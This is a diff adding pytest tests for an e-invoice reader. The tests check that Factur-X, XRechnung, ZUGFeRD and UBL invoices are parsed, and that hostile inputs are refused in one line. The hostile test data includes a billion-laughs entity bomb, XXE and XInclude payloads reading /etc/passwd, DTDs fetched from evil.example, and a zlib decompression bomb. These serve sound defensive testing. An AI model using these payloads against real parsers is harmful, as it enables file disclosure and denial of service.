@@ -1,0 +1,121 @@
+"""E-invoices of every syntax are read, and hostile ones are refused in a line, without a network or an entity."""
+
+from __future__ import annotations
+
+import zlib
+from datetime import date
+from itertools import pairwise
+from pathlib import Path
+
+import pytest
+from pypdf import PdfWriter
+
+from beleg.domains.expenses.claims import BadClaim
+from beleg.domains.expenses.invoices import LARGEST_XML, invoice_in
+from tests.support.invoices import cii, pdf, ubl
+
+pytestmark = pytest.mark.requirement("I5.input-invoices")
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "total", "seller", "item"),
+    [
+        ("Factur-X XML", cii(), "107.00", "Hotel Elbblick GmbH", "Übernachtung im Hotel"),
+        ("Factur-X basic", cii(profile="factur-x-basic"), "107.00", "Hotel Elbblick GmbH", "Übernachtung im Hotel"),
+        ("XRechnung CII", cii(profile="xrechnung"), "107.00", "Hotel Elbblick GmbH", "Übernachtung im Hotel"),
+        ("XRechnung UBL", ubl(), "21.40", "Taxi Krause", "Taxi zum Bahnhof"),
+        ("ZUGFeRD PDF", pdf(cii()), "107.00", "Hotel Elbblick GmbH", "Übernachtung im Hotel"),
+        ("old name", pdf(cii(), "ZUGFeRD-invoice.xml"), "107.00", "Hotel Elbblick GmbH", "Übernachtung im Hotel"),
+        ("UBL in PDF", pdf(ubl(), "xrechnung.xml"), "21.40", "Taxi Krause", "Taxi zum Bahnhof"),
+        ("with a mark", b"\xef\xbb\xbf" + cii(), "107.00", "Hotel Elbblick GmbH", "Übernachtung im Hotel"),
+        ("UTF-16", cii().decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"), "107.00",
+         "Hotel Elbblick GmbH", "Übernachtung im Hotel"),
+    ],
+)  # fmt: skip
+def test_every_syntax_is_read(name: str, content: bytes, total: str, seller: str, item: str) -> None:
+    found = invoice_in(name, content)
+    assert found is not None
+    invoice = found.invoice
+    assert (str(invoice.total), invoice.seller, invoice.currency) == (total, seller, "EUR")
+    assert (invoice.issued, found.items, invoice.credit) == (date(2026, 11, 3), (item,), False)
+
+
+def test_credit_notes_are_told() -> None:
+    for content in (ubl(credit=True), cii(kind="381")):
+        found = invoice_in("c", content)
+        assert found is not None
+        assert found.invoice.credit
+
+
+@pytest.mark.parametrize(
+    "content",
+    [b"\xff\xd8\xff picture", b"text", pdf(), pdf(b"<other/>", "data.xml"), pdf(b"hello", "notes.txt")],
+)
+def test_what_is_no_e_invoice_is_a_file_like_any_other(content: bytes) -> None:
+    assert invoice_in("r", content) is None
+
+
+NAMES = "abcdefghij"
+ENTITIES = ["<!ENTITY " + name + " '" + f"&{before};" * 10 + "'>" for before, name in pairwise(NAMES)]
+BOMB = f"<!DOCTYPE b [<!ENTITY a 'aaaaaaaaaa'>{''.join(ENTITIES)}]>"
+HOSTILE = {
+    "expanding entities": cii(doctype=BOMB, seller="x").replace(b">x<", b">&j;<"),
+    "a file of this machine": cii(doctype='<!DOCTYPE b [<!ENTITY x SYSTEM "file:///etc/passwd">]>', seller="x").replace(
+        b">x<", b">&x;<"
+    ),
+    "a file of the network": ubl(doctype='<!DOCTYPE b SYSTEM "http://evil.example/b.dtd">'),
+    "parameter entities": ubl(doctype='<!DOCTYPE b [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]>'),
+    "an empty document type": ubl(doctype="<!DOCTYPE Invoice>"),
+    "one in a PDF": pdf(cii(doctype=BOMB)),
+    "one in UTF-16": ubl(doctype="<!DOCTYPE Invoice>").decode().replace("UTF-8", "UTF-16").encode("utf-16"),
+    "nesting": b"<a>" * 200_000,
+    "an inclusion": b'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></a>',
+    "too much": b"<a>" + b" " * LARGEST_XML + b"</a>",
+    "no XML": b"<",
+    "half of one": cii()[:700],
+    "another root": b"<invoice/>",
+    "an unknown encoding": b'<?xml version="1.0" encoding="utf-99"?><a/>',
+    "another schema": cii().replace(b"ApplicableHeaderTradeDelivery", b"Other"),
+    "no total": cii().replace(b"GrandTotalAmount", b"LineTotalAmount"),
+    "no amount": cii(net="1e2"),
+    "too many decimals": cii(net="100.001"),
+    "no currency": cii(currency="ZZZ"),
+    "no date": cii(issued="20261399"),
+    "a broken PDF": b"%PDF-1.7 nonsense",
+    "half of a PDF": pdf(cii())[:600],
+    "an encrypted PDF": b"",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("kind", HOSTILE)
+@pytest.mark.requirement("I5.input-hostile")
+def test_what_is_hostile_or_broken_is_one_line(kind: str, capfd: pytest.CaptureFixture[str]) -> None:
+    content = HOSTILE[kind] or _encrypted()
+    with pytest.raises(BadClaim) as told:
+        invoice_in("r.xml", content)
+    assert "\n" not in told.value.message
+    assert len(told.value.message) < 400
+    assert "root:" not in told.value.message
+    assert capfd.readouterr() == ("", "")
+
+
+@pytest.mark.requirement("I5.input-hostile")
+def test_a_stream_that_unpacks_to_far_more_is_refused_in_time(tmp_path: Path) -> None:
+    bomb = pdf(b"<a>" + b" " * (1 << 20) + b"</a>", "factur-x.xml")
+    packed = zlib.compress(b" " * (200 << 20))
+    assert len(packed) < 1 << 20
+    made = pdf(packed, "factur-x.xml")
+    assert invoice_in("r.pdf", bomb) is None
+    assert invoice_in("r.pdf", made) is None
+
+
+def _encrypted() -> bytes:
+    from io import BytesIO
+
+    writer = PdfWriter()
+    writer.add_blank_page(width=10, height=10)
+    writer.add_attachment("factur-x.xml", cii())
+    writer.encrypt("secret", algorithm="RC4-128")
+    held = BytesIO()
+    writer.write(held)
+    return held.getvalue()
